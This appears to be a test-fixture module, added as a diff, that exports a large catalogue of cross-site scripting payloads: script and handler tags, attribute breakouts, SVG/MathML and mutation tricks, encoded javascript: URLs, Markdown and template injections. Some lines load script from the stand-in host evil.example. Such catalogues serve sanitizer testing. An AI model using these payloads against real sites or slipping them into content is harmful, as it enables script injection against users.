@@ -1,0 +1,282 @@
+/*
+ * Texts that try to run script in whoever reads them. Each calls `alert` if it succeeds. Composed in the families that
+ * the well-known collections cover; every family is told apart by how it hopes to get through.
+ */
+
+/** Elements that run what is in them, or fetch it. */
+const elements = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT >',
+  '<script\n>alert(1)</script\n>',
+  '<script/x>alert(1)</script/x>',
+  '<script src=//evil.example/x.js></script>',
+  '<script src="https://evil.example/x.js" async></script>',
+  '<script type=module>import "https://evil.example/x.js"</script>',
+  '<script type="text/template"></script><script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script>alert(1)',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;">',
+  '<frameset><frame src="javascript:alert(1)"></frameset>',
+  '<object data="javascript:alert(1)"></object>',
+  '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<applet code="javascript:alert(1)"></applet>',
+  '<base href="https://evil.example/"><script src="x.js"></script>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
+  '<portal src="javascript:alert(1)"></portal>',
+  '<xml id=x><script>alert(1)</script></xml>',
+]
+
+/** Handlers, on elements that fire them without anybody's help. */
+const handlers = [
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert`1`>',
+  '<img src=x onerror="alert(1)"//',
+  '<IMG SRC=x ONERROR=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=x\nonerror\n=\nalert(1)>',
+  '<img src=x onerror\t=\talert(1)>',
+  '<img src=x onerror="&#97;lert(1)">',
+  '<img src=x onerror="\\u0061lert(1)">',
+  "<img src=x onerror=\"window['al'+'ert'](1)\">",
+  '<img src=x onerror="throw onerror=alert,1">',
+  '<img src="x"onerror="alert(1)">',
+  '<img """><img src=x onerror=alert(1)>">',
+  "<img src='x' title='\"' onerror=alert(1) alt='>'>",
+  '<img src=x:x onerror=eval(atob("YWxlcnQoMSk="))>',
+  '<img srcset=",,,x" onerror=alert(1)>',
+  '<picture><source srcset=x><img onerror=alert(1)></picture>',
+  '<body onload=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)><option>x</select>',
+  '<textarea autofocus onfocus=alert(1)></textarea>',
+  '<button autofocus onfocus=alert(1)>x</button>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<dialog open oncancel=alert(1) onclose=alert(1)>x</dialog>',
+  '<video src=x onerror=alert(1)></video>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1) autoplay></audio>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<div onpointerenter=alert(1) style="position:fixed;inset:0">x</div>',
+  '<a onmouseover=alert(1)>hover</a>',
+  '<b onclick=alert(1)>bold</b>',
+  '<p style="animation:x 1s" onanimationstart=alert(1)>x</p>',
+  '<div contenteditable onbeforeinput=alert(1)>x</div>',
+  '<x id=x tabindex=1 onfocusin=alert(1)>x</x>#x',
+]
+
+/** Attributes that somebody else's quotes let in. */
+const attributes = [
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus='",
+  '" autofocus onfocus=alert(1) x="',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '`onmouseover=alert(1)`',
+  '"/><script>alert(1)</script>',
+  '&quot; onmouseover=&quot;alert(1)',
+  '&#34;&gt;&lt;img src=x onerror=alert(1)&gt;',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '--></noscript><script>alert(1)</script>',
+  '";alert(1)//',
+  "';alert(1)//",
+  '\\";alert(1)//',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else
+  '${alert(1)}',
+  '\u2028alert(1)\u2028',
+  '</script><!--<script>alert(1)//',
+]
+
+/** The namespaces in which the same words are parsed by other rules. */
+const namespaces = [
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script>alert&#40;1&#41;</script></svg>',
+  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
+  '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
+  '<svg><set attributeName="onmouseover" to="alert(1)"></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>',
+  '<svg><image href="x" onerror="alert(1)"></image></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
+  '<svg><style>@import "https://evil.example/x.css"</style></svg>',
+  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
+  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
+  '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+]
+
+/** What is harmless when it is read once and is not when it is written out and read again. */
+const mutations = [
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<table><td><svg><desc><td></desc><style><title></style><img src=x onerror=alert(1)></title></svg>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<p id="</p><img src=x onerror=alert(1)>">',
+  '<a title="a&lt;/a>&lt;img src=x onerror=alert(1)>">x</a>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
+  '<img alt="``onerror=alert(1)" src=x>',
+  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
+]
+
+/** Comments, sections, declarations and tags that never end. */
+const unclosed = [
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<!--><script>alert(1)</script>-->',
+  '<!---><script>alert(1)</script>',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
+  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<? foo="><script>alert(1)</script>">',
+  '</ x="><img src=x onerror=alert(1)>">',
+  '<% foo><x foo="%><script>alert(1)</script>">',
+  '<img src=x onerror=alert(1)',
+  '<svg onload=alert(1)//',
+  '<a href="javascript:alert(1)',
+  '<div><p><b><i><script>alert(1)',
+  '<',
+  '</script',
+  '<!--',
+]
+
+/** References, and letters that look or count like others. */
+const encodings = [
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&#x3c;img src=x onerror=alert(1)&#x3e;',
+  '&#0000060img src=x onerror=alert(1)&#0000062',
+  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
+  '&LT;script&GT;alert(1)&LT;/script&GT;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\\x3cimg src=x onerror=alert(1)\\x3e',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '＜script＞alert(1)＜/script＞',
+  '‹script›alert(1)‹/script›',
+  '\u202e<script>alert(1)</script>',
+  '\ufeff<img src=x onerror=alert(1)>',
+  '<\u200bscript>alert(1)</\u200bscript>',
+  '<ſcript>alert(1)</ſcript>',
+  '<ımg src=x onerror=alert(1)>',
+  '<img src=x on\u00aderror=alert(1)>',
+]
+
+/** Addresses that are script, by all the ways a browser still reads them so. */
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'java&Tab;script:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A;&#x61;vascript:alert(1)',
+  '&#0000106avascript:alert(1)',
+  'javascript://example.com/%0aalert(1)',
+  'javascript:%61lert(1)',
+  'javascript:/*--></title></style>*/alert(1)',
+  '\u00a0javascript:alert(1)',
+  'view-source:javascript:alert(1)',
+  'feed:javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'DATA:image/svg+xml,<svg/onload=alert(1)>',
+  'vbscript:msgbox(1)',
+]
+
+/** The same addresses as Markdown and HTML write them. */
+const links = addresses.flatMap((address, index) => [
+  `[link ${index}](${address})`,
+  [`![picture ${index}](${address})`, `<${address}>`, `<a href="${address}">anchor ${index}</a>`][index % 3] as string,
+])
+
+/** Markdown that may come out as something else than was put in. */
+const markdown = [
+  '[words](https://a.example "t" onmouseover="alert(1))',
+  '[words](https://a.example"onmouseover="alert(1))',
+  "[words](https://a.example '\\' onmouseover=alert(1)')",
+  '[a](<javascript:alert(1)>)',
+  '[a]( javascript:alert(1) )',
+  '[reference]: javascript:alert(1)\n[reference]',
+  '[x][javascript:alert(1)]',
+  '![a"onerror="alert(1)](https://a.example/x.png)',
+  '![a](https://a.example/x.png"onerror="alert(1))',
+  '![][x]\n\n[x]: data:image/svg+xml,<svg/onload=alert(1)>',
+  '[<img src=x onerror=alert(1)>](https://a.example)',
+  '[[nested](javascript:alert(1))](javascript:alert(1))',
+  '[![nested](javascript:alert(1))](javascript:alert(1))',
+  'https://a.example/"onmouseover="alert(1)',
+  'https://a.example/<script>alert(1)</script>',
+  'javascript:alert(1)//https://a.example',
+  '`<img src=x onerror=alert(1)>`',
+  '```\n</code></pre><script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '    </code><script>alert(1)</script>',
+  '> <script>alert(1)</script>',
+  '1. <svg onload=alert(1)>',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
+  '**<img src=x onerror=alert(1)>**',
+  '~~[x](javascript:alert(1))~~ _<script>alert(1)</script>_',
+  '\\<script>alert(1)\\</script>',
+  '<img src=x **onerror=alert(1)**>',
+]
+
+/** Templates, styles and objects that evaluate what they are given. */
+const evaluated = [
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else
+  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
+  '<div ng-app ng-csp>{{$eval.constructor("alert(1)")()}}</div>',
+  '<div v-html="`<img src=x onerror=alert(1)>`"></div>',
+  '<div x-data x-init="alert(1)"></div>',
+  '<style>@import "javascript:alert(1)"; *{background:url("javascript:alert(1)")}</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/x.xml)">x</div>',
+  '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
+  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
+  '<isindex action="javascript:alert(1)" type=image>',
+  '<a id=defaultView><a id=defaultView name=alert href=x>',
+  '<form name=body><input name=firstChild>',
+  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
+]
+
+export const payloadFamilies: Record<string, readonly string[]> = {
+  elements,
+  handlers,
+  attributes,
+  namespaces,
+  mutations,
+  unclosed,
+  encodings,
+  links,
+  markdown,
+  evaluated,
+}
+
+export const scriptPayloads: readonly string[] = Object.values(payloadFamilies).flat()
